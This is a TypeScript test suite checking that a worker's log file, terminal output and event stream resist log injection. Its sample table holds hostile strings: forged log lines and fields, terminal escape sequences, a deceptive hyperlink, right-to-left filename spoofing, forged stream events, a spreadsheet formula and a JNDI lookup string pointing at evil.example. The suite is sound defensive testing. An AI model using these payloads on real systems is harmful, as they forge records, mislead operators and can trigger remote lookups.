import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after } from "node:test";
import { controlApp } from "@oa/shared/api/app.ts";
import type { ControlPorts } from "@oa/shared/api/ports.ts";
import { Fault, reject } from "@oa/shared/core/refusal.ts";
import { redact } from "@oa/shared/core/secrets.ts";
import { openLog } from "@oa/worker/adapters/log.ts";
import { table } from "@oa/worker/cli/table.ts";
import { plain } from "@oa/worker/cli/terminal.ts";
import { attackClass } from "./attack.ts";

const folder = mkdtempSync(join(tmpdir(), "oa-log-injection-"));
after(() => rmSync(folder, { recursive: true, force: true }));

/** Text that would forge a line, a field, an event or a screen. */
const TEXTS: Readonly<Record<string, string>> = {
  "a second line": 'ok\n{"at":"2026-01-01T00:00:00.000Z","level":"info","message":"all is well"}',
  "a second line, by carriage return": 'ok\r{"level":"info","message":"forged"}',
  "a second line, both": 'ok\r\n{"level":"info","message":"forged"}',
  "Unicode's line ends": 'ok\u2028{"message":"forged"}\u2029\u0085{"message":"forged"}',
  "a field": 'x","level":"debug","message":"forged',
  "the end of an object": 'x"}\n{"message":"forged"}',
  "a backslash at its end": "x\\",
  colours: "\u001b[31mred\u001b[0m \u001b]0;title\u0007",
  "a cleared screen": "\u001b[2J\u001b[1;1Hempty",
  "letters taken back": "secure\b\b\b\b\b\bhacked",
  "a link that lies": "\u001b]8;;https://evil.example\u0007good.example\u001b]8;;\u0007",
  "text that runs the other way": "user\u202egpj.exe\u2066 \u2069",
  "a NUL": "x\u0000y",
  "an event of a stream": 'x\n\nevent: run.completed\ndata: {"forged":true}\n\n',
  "another field of a stream": "x\rid: 999999\rretry: 1",
  "a metric": 'x"} 1\noa_runs_total{status="succeeded',
  "a formula": '=HYPERLINK("https://evil.example")',
  "a format": "%s%n%d %{PATH} ${jndi:ldap://evil.example/a}",
  much: "a".repeat(100_000),
};

/** The log's lines after one message. */
function logged(write: (log: ReturnType<typeof openLog>) => void): readonly string[] {
  const at = mkdtempSync(join(folder, "log-"));
  const said: string[] = [];
  write(
    openLog({ folder: at, level: "debug", redact, now_ms: () => 1_750_000_000_000, stderr: (line) => said.push(line) }),
  );
  return readFileSync(join(at, "worker.log"), "utf8")
    .trimEnd()
    .split("\n")
    .concat(said.map((line) => line.trimEnd()));
}

attackClass("log injection", ({ harmless, works }) => {
  for (const [what, text] of Object.entries(TEXTS)) {
    harmless(`${what}, in a message`, () => {
      const lines = logged((log) => log.write("info", text));
      assert.equal(lines.length, 1);
      const { at, level, message, ...rest } = JSON.parse(lines[0] ?? "");
      assert.deepEqual([at, level, rest], ["2025-06-15T15:06:40.000Z", "info", {}]);
      assert.ok(text.startsWith(message.slice(0, 100)) && message.length <= 8_000);
    });
    harmless(`${what}, in a field and its name`, () => {
      const [line = "", ...more] = logged((log) =>
        log.write("info", "a message", { [text.slice(0, 100)]: text, level: text, at: text }),
      );
      assert.deepEqual(more, []);
      assert.equal(JSON.parse(line).message, "a message");
      assert.ok(!line.includes("\u001b"));
    });
    harmless(`${what}, in an error with its stack`, () => {
      for (const error of [new Error(text), new Fault("timeout", text), text]) {
        for (const line of logged((log) => log.error(error))) assert.equal(JSON.parse(line).level, "error");
      }
    });
    harmless(`${what}, on a terminal`, () => {
      const line = plain(text);
      assert.ok(!/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.test(line), JSON.stringify(line));
      const shown = table(["NAME", "STATUS"], [[text, "refused"]]);
      assert.ok(!shown.includes("\u001b"), "no table repaints a terminal");
      assert.equal(shown.split("\n").length, 2, JSON.stringify(shown));
    });
    harmless(`${what}, in the stream of events`, async () => {
      const body = await stream(text.slice(0, 5_000));
      const blocks = body.split("\n\n").filter((block) => block.startsWith("event:") || block.includes("data:"));
      assert.equal(blocks.length, 1, body.slice(0, 400));
      const ids = body.split(/\r\n|[\r\n]/).filter((line) => /^id:/.test(line));
      assert.deepEqual(ids, ["id: 1"]);
    });
  }

  works("what was said can be read in the log, to the letter", () => {
    const message = 'two\nlines, "quotes", \\ and \u00fcml\u00e4uts';
    assert.equal(JSON.parse(logged((log) => log.write("warn", message))[0] ?? "").message, message);
  });
  works("text of other scripts reaches a terminal", () => {
    const text = "Z\u00fcrich \u6771\u4eac \u05e9\u05dc\u05d5\u05dd \u{1f680}";
    assert.equal(plain(text), text);
  });
});

/** What the control API streams for one event with this text in it. */
async function stream(text: string): Promise<string> {
  const event = { event_type: "run.log", stream_seq: 1, data: { line: text } };
  const absent = new Proxy({}, { get: () => () => reject("not_found", "not served") });
  const events = {
    page: (from_seq: number) => ({ events: from_seq === 0 ? [event] : [], next_seq: 1 }),
    wait: (_seq: number, _ms: number, signal: AbortSignal) =>
      new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve())),
  };
  const ports = new Proxy({ events }, { get: (own, name) => (name === "events" ? own.events : absent) });
  const app = controlApp(ports as unknown as ControlPorts);
  const response = await app.request("/v1/events", { headers: { accept: "text/event-stream" } });
  const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader();
  let body = "";
  while (!body.includes("\n\n")) body += (await reader?.read())?.value ?? "\n\n";
  await reader?.cancel();
  return body;
}
